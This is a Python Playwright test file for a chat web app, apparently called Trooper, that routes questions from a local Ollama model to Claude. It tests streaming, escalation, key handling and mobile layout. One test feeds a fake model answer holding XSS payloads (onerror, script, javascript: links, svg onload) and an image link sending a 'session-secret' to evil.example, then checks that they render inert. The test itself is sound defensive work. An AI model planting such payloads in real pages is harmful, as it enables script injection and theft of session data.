"""The /chat page in headless Chromium against a real Trooper and fake Ollama / Claude upstreams."""

from __future__ import annotations

import json
import logging
import stat
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, Response, expect

from tests.browser import SCREENSHOTS
from tests.fakes.anthropic import FakeAnthropic
from tests.fakes.behaviours import reply_text

pytestmark = pytest.mark.browser

CLAUDE_KEY = "sk-ant-test-0123456789abcdef"
VIEWPORT = {"width": 1360, "height": 860}


@pytest.fixture
def trooper(fake_ollama, fake_anthropic, make_trooper):  # type: ignore[no-untyped-def]
    return make_trooper(FALLBACK_URL=fake_ollama.api_chat_url, CLAUDE_API_KEY=CLAUDE_KEY, CLAUDE_URL=fake_anthropic.messages_url)


def send(page: Page, text: str) -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def finished_answers(page: Page):  # type: ignore[no-untyped-def]
    return page.locator(".msg-assistant:not([aria-busy])")


def test_chat_streams_escalates_returns_and_keeps_the_sitrep(trooper, fake_ollama, fake_anthropic, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    page.goto(f"{trooper.url}/chat")
    expect(page.locator("#empty-chat")).to_be_visible()
    expect(page.locator("#sitrep")).to_contain_text("Not known yet")
    page.screenshot(path=str(SCREENSHOTS / "chat-empty.png"))

    local_answer = "Use **pytest** fixtures for setup.\n\n```python\ndef test_login(client):\n    assert client.get('/').ok\n```\n"
    fake_ollama.enqueue(reply_text(local_answer, chunk_delay=0.12))
    send(page, "Help me fix the flaky login test in the auth service. It still fails on CI.")

    # Tokens appear while the answer is still streaming, as plain text (a text node, no elements).
    page.wait_for_function(
        """() => {
            const body = document.querySelector('.msg-assistant[aria-busy] .msg-body');
            return body && body.textContent.includes('**pytest**') && body.children.length === 0;
        }""",
        timeout=10_000,
    )

    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    first = finished_answers(page).first
    expect(first.locator(".answer-label")).to_have_text("llama3.1:8b · local")
    expect(first.locator("strong")).to_have_text("pytest")
    expect(first.locator("pre code")).to_contain_text("def test_login")
    expect(first.locator(".copy-code")).to_be_visible()
    expect(page.locator("#sitrep .intent")).not_to_have_text("Not known yet")
    expect(page.locator("#sitrep .open-loops li").first).to_contain_text("fails on CI")
    sitrep_after_first = page.locator("#sitrep").inner_text()
    assert "#" in page.url, "the session id is kept in the URL so a reload reopens it"
    page.screenshot(path=str(SCREENSHOTS / "chat-local-answer.png"))

    fake_anthropic.enqueue(reply_text("| Option | Cost |\n|---|--:|\n| retry | low |\n| rewrite | high |\n", chunk_delay=0.05))
    first.get_by_role("button", name="↑ Escalate").click()
    expect(page.locator(".divider")).to_have_text("— escalated to Claude —", timeout=10_000)
    expect(finished_answers(page)).to_have_count(2, timeout=10_000)
    cloud = finished_answers(page).nth(1)
    expect(cloud.locator(".answer-label")).to_contain_text("· cloud")
    expect(cloud.locator("table td").first).to_have_text("retry")
    expect(page.locator("#route-pill")).to_have_text("Cloud (Claude)")
    expect(page.locator("#stat-escalations")).to_have_text("1")
    page.screenshot(path=str(SCREENSHOTS / "chat-escalated.png"))

    cloud.get_by_role("button", name="↩ Back to local").click()
    expect(page.locator(".divider").nth(1)).to_have_text("— returned to local —")
    expect(page.locator("#route-pill")).to_have_text("Local first")

    fake_ollama.enqueue(reply_text("The login test passes now: I fixed the race in the session cookie."))
    send(page, "Great, and the rate limiter in billing-api also needs a look.")
    expect(finished_answers(page)).to_have_count(3, timeout=10_000)
    expect(finished_answers(page).nth(2).locator(".answer-label")).to_contain_text("· local")
    expect(page.locator("#sitrep")).not_to_have_text(sitrep_after_first)

    # A reload reopens the same chat, dividers included.
    page.reload()
    expect(finished_answers(page)).to_have_count(3, timeout=10_000)
    expect(page.locator(".divider")).to_have_count(2)
    expect(page.locator(".divider").first).to_have_text("— escalated to Claude —")
    expect(page.locator(".chat-session[aria-current='true']")).to_have_count(1)
    assert not watched.dialogs and not watched.errors and not watched.remote_requests


def test_hostile_model_answer_renders_inert(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    hostile = (
        "Here you go <img src=x onerror=alert('img')> and <script>alert('script')</script>\n\n"
        "[click me](javascript:alert('link')) and [also](jav&#x09;ascript:alert('tab'))\n\n"
        "![secret](http://evil.example/collect?q=session-secret)\n\n"
        "<svg onload=alert('svg')></svg> <iframe src=http://evil.example/frame></iframe>\n"
    )
    fake_ollama.enqueue(reply_text(hostile, chunk_delay=0.02))
    page.goto(f"{trooper.url}/chat")
    send(page, "Show me <b>markup</b> <img src=y onerror=alert('user')>")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)

    messages = page.locator("#messages")
    expect(messages).to_contain_text("[image removed: secret]")
    expect(messages).to_contain_text("<img src=x onerror=alert('img')>")
    expect(page.locator(".msg-user .bubble")).to_have_text("Show me <b>markup</b> <img src=y onerror=alert('user')>")
    assert messages.locator("img, script, svg, iframe, [onerror], [onload]").count() == 0
    hrefs = messages.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(href is None or href.startswith(("http://", "https://", "mailto:")) for href in hrefs)
    messages.get_by_text("click me").click()
    page.wait_for_timeout(300)
    assert watched.dialogs == []
    assert watched.remote_requests == []
    assert watched.errors == []


def test_stop_cancels_a_running_answer(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    fake_ollama.enqueue(reply_text(" ".join(f"word{i}" for i in range(200)), chunk_delay=0.1))
    page.goto(f"{trooper.url}/chat")
    send(page, "Tell me a very long story")
    streaming = page.locator(".msg-assistant[aria-busy] .msg-body")
    expect(streaming).to_contain_text("word2", timeout=10_000)
    page.get_by_role("button", name="■ Stop").click()
    expect(page.locator(".msg-note")).to_have_text("Stopped.")
    expect(page.locator("#send")).to_be_enabled()
    expect(page.locator("#stop")).to_be_hidden()
    frozen = page.locator(".msg-assistant .msg-body").text_content()
    page.wait_for_timeout(500)
    assert page.locator(".msg-assistant .msg-body").text_content() == frozen
    assert "word199" not in (frozen or "")


def test_escalating_without_a_cloud_explains_what_to_do(fake_ollama, make_trooper, watched) -> None:  # type: ignore[no-untyped-def]
    server = make_trooper(FALLBACK_URL=fake_ollama.api_chat_url)
    page = watched.page
    fake_ollama.enqueue(reply_text("A local answer."))
    page.goto(f"{server.url}/chat")
    send(page, "What is a SITREP?")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    # Disabled with the reason beside it, rather than available and failing after a click.
    expect(page.get_by_role("button", name="↑ Escalate")).to_be_disabled()
    expect(page.locator(".no-cloud")).to_contain_text("CLAUDE_API_KEY")
    expect(page.locator("#demo-notice")).to_be_hidden()  # Ollama answers here, not the demo model


ADDED_KEY = "sk-ant-added-on-the-page-0123456789abcdef"


def test_a_cloud_key_added_on_the_page_enables_escalate_without_a_restart(  # type: ignore[no-untyped-def]
    fake_ollama, make_trooper, watched, tmp_path: Path, caplog
) -> None:
    caplog.set_level(logging.DEBUG)
    db, keys_file = tmp_path / "trooper.db", tmp_path / "keys.env"
    with FakeAnthropic(api_key=ADDED_KEY) as claude:  # answers only the key added on the page
        server = make_trooper(FALLBACK_URL=fake_ollama.api_chat_url, CLAUDE_URL=claude.messages_url,
                              TROOPER_DB=str(db), TROOPER_KEYS_FILE=str(keys_file))
        page = watched.page
        bodies: list[str] = []

        def keep_body(response: Response) -> None:
            try:
                bodies.append(f"{response.url} {response.headers} {response.text()}")
            except Exception:  # noqa: BLE001 - an event stream still open, or a redirect: its headers suffice
                bodies.append(f"{response.url} {response.headers}")

        page.on("response", keep_body)
        page.goto(f"{server.url}/chat")
        fake_ollama.enqueue(reply_text("A local answer about indexes."))
        send(page, "Which index fits this query?")
        expect(finished_answers(page)).to_have_count(1, timeout=10_000)
        escalate = page.get_by_role("button", name="↑ Escalate")
        expect(escalate).to_be_disabled()
        explanation = page.locator(".no-cloud")
        expect(explanation).to_contain_text("No cloud model is configured")

        explanation.get_by_role("button", name="Add a cloud key").click()
        dialog = page.get_by_role("dialog", name="Add a cloud key")
        expect(dialog).to_be_visible()
        expect(dialog.locator("#key-file")).to_have_text(str(keys_file))
        expect(dialog.get_by_role("checkbox")).not_to_be_checked()
        expect(dialog.get_by_label("API key")).to_have_attribute("type", "password")
        dialog.get_by_label("Provider").select_option("claude")
        dialog.get_by_label("API key").fill(ADDED_KEY)
        dialog.get_by_role("button", name="Add key").click()

        expect(dialog).to_be_hidden()
        expect(page.locator("#key-added")).to_have_text(
            "Claude key added (kept until Trooper stops). ↑ Escalate asks the cloud now.")
        expect(page.locator(".no-cloud")).to_have_count(0)
        expect(escalate).to_be_enabled()
        assert page.locator("#key-value").input_value() == "", "the key does not stay in the page"

        claude.enqueue(reply_text("The cloud says: a partial index."))
        escalate.click()
        expect(page.locator(".divider")).to_have_text("— escalated to Claude —", timeout=10_000)
        expect(finished_answers(page)).to_have_count(2, timeout=10_000)
        expect(finished_answers(page).nth(1).locator(".answer-label")).to_contain_text("· cloud")
        assert claude.requests[-1].api_key == ADDED_KEY

        session_id = page.url.split("#", 1)[1]
        page.goto(f"{server.url}/dashboard#{session_id}")
        expect(page.locator("#events .event").first).to_contain_text("escalated", timeout=10_000)
        page.reload()  # and once more from the store, the page's own answers included
        expect(page.locator("#events .event").first).to_contain_text("escalated", timeout=10_000)
        page.goto(f"{server.url}/chat#{session_id}")
        expect(finished_answers(page)).to_have_count(2, timeout=10_000)
        server.flush()

    assert not keys_file.exists(), "not asked to save: nothing written"
    assert any("api/cloud-keys" in body for body in bodies)
    assert not [body[:200] for body in bodies if ADDED_KEY in body or ADDED_KEY[-8:] in body]
    logged = "\n".join(f"{r.getMessage()} {r.exc_text or ''}" for r in caplog.records)
    assert "cloud key for claude added" in logged and ADDED_KEY not in logged
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("trooper.db*"))
    assert stored and ADDED_KEY.encode() not in stored
    assert not watched.dialogs and not watched.errors and not watched.remote_requests


def shown_dollars(value: float) -> str:
    """The pages' formatDollars, for the small figures of a test."""
    return "$0" if value == 0 else f"${value:.4f}" if value < 0.01 else f"${value:.2f}"


def test_the_chat_header_and_the_dashboard_show_dollars(fake_ollama, fake_anthropic, make_trooper, watched) -> None:  # type: ignore[no-untyped-def]
    # A thousand times Haiku's list price (TROOPER_PRICES), so a short test chat costs whole cents.
    prices = json.dumps({"claude-haiku-4-5": {"input": 1000, "output": 5000, "cached_input": 100}})
    trooper = make_trooper(FALLBACK_URL=fake_ollama.api_chat_url, CLAUDE_API_KEY=CLAUDE_KEY, CLAUDE_URL=fake_anthropic.messages_url,
                           TROOPER_PRICES=prices)
    page = watched.page
    page.goto(f"{trooper.url}/chat")
    expect(page.locator("#stat-avoided")).to_have_text("$0")
    fake_ollama.enqueue(reply_text("Ten connections are plenty for this service, and keep the timeout short."))
    send(page, "How big should the connection pool of the billing service be?")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    session_id = page.url.split("#", 1)[1]
    stats = httpx.get(f"{trooper.url}/api/chat/sessions/{session_id}").json()["stats"]
    assert stats["cost_avoided"] >= 0.01 and stats["cost_spent"] == 0
    expect(page.locator("#stat-avoided")).to_have_text(shown_dollars(stats["cost_avoided"]))
    expect(page.locator("#stat-spent")).to_have_text("$0")

    fake_anthropic.enqueue(reply_text("Twenty, behind PgBouncer in transaction mode."))
    finished_answers(page).first.get_by_role("button", name="↑ Escalate").click()
    expect(finished_answers(page)).to_have_count(2, timeout=10_000)
    stats = httpx.get(f"{trooper.url}/api/chat/sessions/{session_id}").json()["stats"]
    expect(page.locator("#stat-spent")).to_have_text(shown_dollars(stats["cost_spent"]))

    page.goto(f"{trooper.url}/dashboard#{session_id}")
    expect(page.locator("#session-detail #stat-avoided")).to_have_text(shown_dollars(stats["cost_avoided"]))
    expect(page.locator("#session-detail #stat-spent")).to_have_text(shown_dollars(stats["cost_spent"]))
    costs = page.locator("#client-costs")
    expect(costs).to_be_visible()
    costs.locator("summary").click()
    row = costs.locator("tbody tr")
    expect(row).to_have_count(1)
    expect(row.locator("th")).to_have_text("chat page")
    expect(row.locator("td.avoided")).to_have_text(shown_dollars(stats["cost_avoided"]))
    assert not watched.errors


def test_chat_on_a_phone(trooper, fake_ollama, browser) -> None:  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport={"width": 390, "height": 800}, is_mobile=True, has_touch=True)
    page = context.new_page()
    fake_ollama.enqueue(reply_text("Sure. Three steps:\n\n1. Reproduce\n2. Isolate\n3. Fix\n"))
    page.goto(f"{trooper.url}/chat")
    send(page, "How do I debug a flaky test?")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    expect(page.locator("#sitrep-panel")).not_to_be_in_viewport()
    page.screenshot(path=str(SCREENSHOTS / "chat-phone.png"))
    page.get_by_role("button", name="SITREP").click()
    expect(page.locator("#sitrep-panel")).to_be_in_viewport()
    page.wait_for_timeout(300)  # the drawer's slide-in
    page.screenshot(path=str(SCREENSHOTS / "chat-phone-sitrep.png"))
    page.keyboard.press("Escape")
    expect(page.locator("#sitrep-panel")).not_to_be_in_viewport()
    context.close()


def test_an_answer_cut_at_the_token_limit_is_marked_in_the_chat_and_the_dashboard(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    page.goto(f"{trooper.url}/chat")
    fake_ollama.enqueue(reply_text("Step one: install the package. Step two:", stop_reason="max_tokens"))
    send(page, "Walk me through the whole setup.")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    note = "Cut at the token limit: the answer is incomplete."
    expect(finished_answers(page).first.locator(".cut-note")).to_have_text(note)
    fake_ollama.enqueue(reply_text("You're welcome."))
    send(page, "Thanks.")
    expect(finished_answers(page)).to_have_count(2, timeout=10_000)
    expect(page.locator(".cut-note")).to_have_count(1)

    page.reload()  # a reopened chat reads the stop reason from the store
    expect(finished_answers(page)).to_have_count(2)
    expect(finished_answers(page).first.locator(".cut-note")).to_have_text(note)
    expect(page.locator(".cut-note")).to_have_count(1)

    session_id = page.url.split("#", 1)[1]
    page.goto(f"{trooper.url}/dashboard#{session_id}")
    expect(page.locator("#transcript .turn-assistant")).to_have_count(2)
    expect(page.locator("#transcript .turn-assistant").first.locator(".cut-note")).to_have_text(note)
    expect(page.locator("#transcript .cut-note")).to_have_count(1)
    assert not watched.errors


def boxes_overlap(a: dict[str, float], b: dict[str, float]) -> bool:
    return a["x"] < b["x"] + b["width"] and b["x"] < a["x"] + a["width"] and a["y"] < b["y"] + b["height"] and b["y"] < a["y"] + a["height"]


def test_on_a_phone_the_copy_button_covers_no_code(trooper, fake_ollama, browser) -> None:  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport={"width": 390, "height": 800}, is_mobile=True, has_touch=True)
    page = context.new_page()
    fake_ollama.enqueue(reply_text("```python\ntotal = sum_every_invoice_of_the_year(customer_id, year=2024, currency='EUR')\n```\n"))
    page.goto(f"{trooper.url}/chat")
    send(page, "Sum this customer's invoices.")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    block = finished_answers(page).first.locator(".code-wrap")
    expect(block.locator(".copy-code")).to_be_visible()
    button, code = block.locator(".copy-code").bounding_box(), block.locator("pre code").bounding_box()
    assert button is not None and code is not None
    assert not boxes_overlap(button, code), f"the Copy button {button} covers the code {code}"
    context.close()


@pytest.mark.embedded
def test_the_demo_model_says_what_it_is(make_trooper, watched, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Only the embedded 135M model: the page says it is a demo and how to get real answers (a
    cloud key added from the notice, saved when asked), until dismissed."""
    keys_file = tmp_path / "keys.env"
    # FALLBACK_URL points at a closed port: no Ollama
    server = make_trooper(TROOPER_EMBEDDED="true", TROOPER_KEYS_FILE=str(keys_file))
    page = watched.page
    page.goto(f"{server.url}/chat")
    notice = page.locator("#demo-notice")
    expect(notice).to_be_visible()
    expect(notice).to_contain_text("SmolLM2-135M")
    expect(notice).to_contain_text("ollama pull")

    notice.get_by_role("button", name="Add a cloud key").click()
    dialog = page.get_by_role("dialog", name="Add a cloud key")
    expect(dialog.locator("#key-configured")).to_have_text("No cloud provider has a key yet.")
    dialog.get_by_label("Provider").select_option("gemini")
    dialog.get_by_label("API key").fill("AIzaSyD-added-on-the-page-0123456789")
    dialog.get_by_role("checkbox").check()
    dialog.get_by_role("button", name="Add key").click()
    expect(page.locator("#key-added")).to_have_text(
        f"Gemini key added (saved to {keys_file}). ↑ Escalate asks the cloud now.")
    assert stat.S_IMODE(keys_file.stat().st_mode) == 0o600
    assert "GEMINI_API_KEY=AIzaSyD-added-on-the-page-0123456789" in keys_file.read_text()

    page.click("#dismiss-demo")
    expect(notice).to_be_hidden()
    page.reload()
    expect(page.locator("#demo-notice")).to_be_hidden()
    assert not watched.errors


def test_a_chat_holding_a_key_is_marked_and_escalating_it_asks_first(trooper, fake_ollama, fake_anthropic, watched) -> None:  # type: ignore[no-untyped-def]
    page = watched.page
    page.goto(f"{trooper.url}/chat")
    fake_ollama.enqueue(reply_text("Rotate it now."))
    send(page, "I pushed AKIAQ3EGRTW5J2KD7XPL to a public repo by mistake, what should I do first?")
    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
    pill = page.locator("#private-pill")
    expect(pill).to_be_visible()
    expect(pill).to_have_attribute("title", "aws_access_key")

    finished_answers(page).first.get_by_role("button", name="↑ Escalate").click()
    page.wait_for_function("() => !document.querySelector('#stop') || document.querySelector('#stop').hidden")
    page.wait_for_timeout(300)  # the confirmation is asked once the stream that carried it has ended
    assert len(watched.dialogs) == 1 and "aws_access_key (turn 1)" in watched.dialogs[0]
    assert "AKIAQ3EGRTW5J2KD7XPL" not in watched.dialogs[0]
    assert fake_anthropic.requests == [], "dismissed: nothing went to the cloud"
    expect(page.locator(".divider")).to_have_count(0)
    watched.dialogs.clear()
    assert not watched.errors and not watched.remote_requests
